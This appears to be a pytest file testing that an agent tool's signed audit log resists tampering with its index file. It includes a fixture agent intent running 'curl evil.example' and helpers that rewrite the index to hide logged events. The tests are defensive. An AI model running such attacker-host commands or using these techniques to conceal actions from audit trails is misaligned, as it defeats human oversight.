"""Issue 15 item 5: editing only audit/index.bin must not hide events.

The index is derived and untrusted: it is used only with a valid MAC (keyed from the audit
signing key), every event read through it is checked (seq, run/session, hash, link), a
mismatch rebuilds it from the log, a restarted engine rebuilds an edited one, and `verify`
says what it found. The attacker here can write `audit/` but cannot read `keys/`.
"""

from __future__ import annotations

import json
import os
import struct
import subprocess
import sys
from pathlib import Path

import orjson
import pytest
from support.pipe import run_talon as talon

from talon_tui.engine.audit.index import AuditIndex, query
from talon_tui.engine.audit.log import AuditLog
from talon_tui.engine.audit.replay import replay, simulate
from talon_tui.engine.core import keys
from talon_tui.engine.engine import Engine

ROOT = Path(__file__).resolve().parents[3]
HIDDEN = {"tool": "shell.exec", "params": {"argv": ["curl", "evil.example"]}}


def record(data: Path) -> int:
    """A run with three intents; returns the seq of the one the attacker wants hidden."""
    priv, _ = keys.load_or_create(data / "keys", "audit")
    log = AuditLog(data / "audit", priv).open()
    log.append("session.created", session_id="sess_a", data={"workspace": None})
    log.append("run.started", session_id="sess_a", run_id="run_a", data={"content": "x"})
    hidden = -1
    for i, intent in enumerate(
        [{"tool": "file.read", "params": {"path": "a"}}, HIDDEN, {"tool": "file.read"}]
    ):
        ev = log.append(
            "policy.intent.received",
            session_id="sess_a",
            run_id="run_a",
            data={"intent_id": f"int_{i}", "origin": "agent", **intent},
        )
        log.append(
            "policy.decision",
            session_id="sess_a",
            run_id="run_a",
            data={"intent_id": f"int_{i}", "decision": "ALLOW", "reason": "ok"},
        )
        if intent is HIDDEN:
            hidden = ev["seq"]
    log.append("run.finished", session_id="sess_a", run_id="run_a", data={"status": "ok"})
    log.close()
    AuditIndex.load(data / "audit")  # the index as the engine leaves it
    return hidden


def edit_index(audit_dir: Path, change) -> None:
    """Rewrite index.bin the way an attacker without the key can: header and offsets edited,
    the layout kept (a MAC, where the format has one, is left as it was)."""
    path = audit_dir / "index.bin"
    blob = path.read_bytes()
    magic = blob[:10]
    (hlen,) = struct.unpack_from("<Q", blob, 10)
    meta = orjson.loads(blob[18 : 18 + hlen])
    rest = blob[18 + hlen :]
    mac, rest = rest[-32:], rest[:-32]  # a 32-byte MAC at the end
    assert meta["version"] == 3, "edit_index knows index.bin v3"
    count = meta["count"]
    offsets = list(struct.unpack(f"<{count}Q", rest[: 8 * count]))
    seqs = list(struct.unpack(f"<{(len(rest) - 8 * count) // 4}I", rest[8 * count :]))
    for table in ("runs", "sessions"):  # [[key, n], ...] + the seqs after the offsets
        meta[table], pairs = {}, meta[table]
        for key, n in pairs:
            meta[table][key], seqs = seqs[:n], seqs[n:]
    change(meta, offsets)
    meta["count"] = len(offsets)
    packed = struct.pack(f"<{len(offsets)}Q", *offsets)
    for table in ("runs", "sessions"):
        lists = meta[table]
        meta[table] = [[key, len(v)] for key, v in lists.items()]
        packed += b"".join(struct.pack(f"<{len(v)}I", *v) for v in lists.values())
    header = orjson.dumps(meta)
    path.write_bytes(magic + struct.pack("<Q", len(header)) + header + packed + mac)


def drop(seq: int):
    def change(meta, offsets):
        for table in ("runs", "sessions"):
            for key in meta[table]:
                meta[table][key] = [s for s in meta[table][key] if s != seq]

    return change


def point_elsewhere(seq: int):
    def change(meta, offsets):
        offsets[seq] = offsets[seq - 1]  # the intent's offset now names the event before it

    return change


ATTACKS = {"drop": drop, "point-elsewhere": point_elsewhere}


def seqs_of(events) -> list[int]:
    return [e["seq"] for e in events]


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_an_edited_index_hides_nothing_from_query_replay_simulate_export(tmp_path, attack):
    data = tmp_path / "data"
    hidden = record(data)
    audit_dir = data / "audit"
    expected = list(range(1, 9))
    assert seqs_of(query(audit_dir, run_id="run_a")) == expected  # before the attack
    edit_index(audit_dir, ATTACKS[attack](hidden))

    got = query(audit_dir, run_id="run_a")
    assert seqs_of(got) == expected
    assert got[hidden - 1]["data"]["tool"] == "shell.exec"
    assert seqs_of(query(audit_dir, session_id="sess_a")) == list(range(0, 9))
    assert hidden in seqs_of(query(audit_dir, from_seq=hidden, limit=1))

    edit_index(audit_dir, ATTACKS[attack](hidden))
    pub = keys.load_public(data / "keys", "audit")
    result = replay(audit_dir, pub, "run_a")
    assert [s.seq for s in result.steps] == expected
    assert any(s.tool == "shell.exec" for s in result.steps)

    edit_index(audit_dir, ATTACKS[attack](hidden))
    from talon_tui.engine.policy.models import parse_policy

    deny_all = parse_policy({"version": 1, "overrides": []})
    changes = simulate(audit_dir, "run_a", deny_all)
    assert hidden in [c.seq for c in changes]

    edit_index(audit_dir, ATTACKS[attack](hidden))
    res = talon(data, "audit", "export", "--run", "run_a")
    assert res.returncode == 0, res.stderr
    assert [json.loads(x)["seq"] for x in res.stdout.splitlines()] == expected
    assert "evil.example" in res.stdout


def test_a_mac_valid_but_wrong_index_is_caught_by_the_per_event_checks(tmp_path):
    """Even an index with a good MAC (a bug, or a log changed under it) is checked event by
    event: seq, run and hash; a mismatch rebuilds it and the read is retried."""
    from talon_tui.engine.audit.index import index_key

    data = tmp_path / "data"
    hidden = record(data)
    audit_dir = data / "audit"
    priv, _ = keys.load_or_create(data / "keys", "audit")
    idx = AuditIndex.load(audit_dir, key=index_key(priv))
    idx.offsets[hidden] = idx.offsets[hidden + 1]
    idx.runs["run_a"] = type(idx.runs["run_a"])("I", [s for s in idx.runs["run_a"]] + [0])
    idx.save()
    assert AuditIndex.load(audit_dir).status == "reused"
    got = query(audit_dir, run_id="run_a")
    assert seqs_of(got) == list(range(1, 9))
    assert (
        AuditIndex.load(audit_dir).offsets[hidden] != AuditIndex.load(audit_dir).offsets[hidden + 1]
    )


def test_a_line_swapped_under_a_valid_index_is_caught(tmp_path):
    """The log rewritten in place at the same size (verify reports it as damage): the index
    still points at the old offsets; reads rebuild and show what the log holds now."""
    data = tmp_path / "data"
    record(data)
    audit_dir = data / "audit"
    log = audit_dir / "audit.jsonl"
    lines = log.read_bytes().splitlines(keepends=True)
    lines[4], lines[6] = lines[6], lines[4]
    stat = log.stat()
    log.write_bytes(b"".join(lines))
    os.utime(log, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    got = query(audit_dir, run_id="run_a")
    assert sorted(seqs_of(got)) == list(range(1, 9))


def test_without_the_key_the_index_is_rebuilt_and_never_saved(tmp_path):
    from talon_tui.engine.audit.index import check_index

    data = tmp_path / "data"
    hidden = record(data)
    audit_dir = data / "audit"
    edit_index(audit_dir, drop(hidden))
    before = (audit_dir / "index.bin").read_bytes()
    os.rename(data / "keys", data / "keys.away")
    idx = AuditIndex.load(audit_dir)
    assert idx.status.startswith("rebuilt: no key")
    assert hidden in idx.seqs_for(run_id="run_a")
    assert (audit_dir / "index.bin").read_bytes() == before
    assert check_index(audit_dir).startswith("not checked")


def test_verify_reports_the_index(tmp_path):
    data = tmp_path / "data"
    hidden = record(data)
    res = talon(data, "audit", "verify", "--json")
    assert res.returncode == 0 and json.loads(res.stdout)["index"].startswith("ok")
    edit_index(data / "audit", drop(hidden))
    res = talon(data, "audit", "verify", "--json")
    doc = json.loads(res.stdout)
    assert doc["valid"] and doc["index"].startswith("modified"), doc
    res = talon(data, "audit", "verify")
    assert "index: modified" in res.stdout


def test_export_of_the_whole_log_is_the_log(tmp_path):
    data = tmp_path / "data"
    hidden = record(data)
    edit_index(data / "audit", lambda meta, offsets: offsets.__delitem__(hidden))
    res = subprocess.run(
        [sys.executable, "-m", "talon_tui.cli", "audit", "export", "--data-dir", str(data)],
        capture_output=True,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
        timeout=120,
    )
    assert res.returncode == 0
    assert res.stdout == (data / "audit" / "audit.jsonl").read_bytes()


async def test_a_restarted_engine_rebuilds_an_edited_index(tmp_path):
    data = tmp_path / "data"
    hidden = record(data)
    edit_index(data / "audit", drop(hidden))
    engine = Engine(data)
    await engine.start()
    try:
        # the stored index is whole again (and extended with engine.started), not the edit
        stored = AuditIndex.load(data / "audit")
        assert stored.status in ("reused", "extended")
        assert hidden in stored.seqs_for(run_id="run_a")
        events = await engine.query_audit(run_id="run_a")
        assert hidden in seqs_of(events)
        result = await engine.replay("run_a")
        assert any(s.tool == "shell.exec" for s in result.steps)
        assert engine.store.index_status.startswith("rebuilt: modified")
        # the signed log keeps the evidence the rebuild erased from index.bin
        noted = await engine.query_audit(types=["audit.index_rebuilt"])
        assert [e["data"]["reason"][:8] for e in noted] == ["modified"]
        # edited again while the engine runs: the next read rebuilds it and says so
        edit_index(data / "audit", drop(hidden))
        events = await engine.query_audit(run_id="run_a")
        assert hidden in seqs_of(events)
        noted = await engine.query_audit(types=["audit.index_rebuilt"])
        assert [e["data"]["reason"][:8] for e in noted] == ["modified", "modified"]
        report = await engine.verify_audit()
        assert report.valid and report.index is not None and report.index.startswith("ok")
    finally:
        await engine.stop()


def test_an_index_that_cannot_be_saved_does_not_break_reads(tmp_path):
    """The attacker plants the temp name the save uses: the read still answers."""
    data = tmp_path / "data"
    hidden = record(data)
    audit_dir = data / "audit"
    edit_index(audit_dir, drop(hidden))
    (audit_dir / f".index.bin.tmp{os.getpid()}").symlink_to(tmp_path / "elsewhere")
    got = query(audit_dir, run_id="run_a")
    assert hidden in seqs_of(got)
    assert not (tmp_path / "elsewhere").exists()
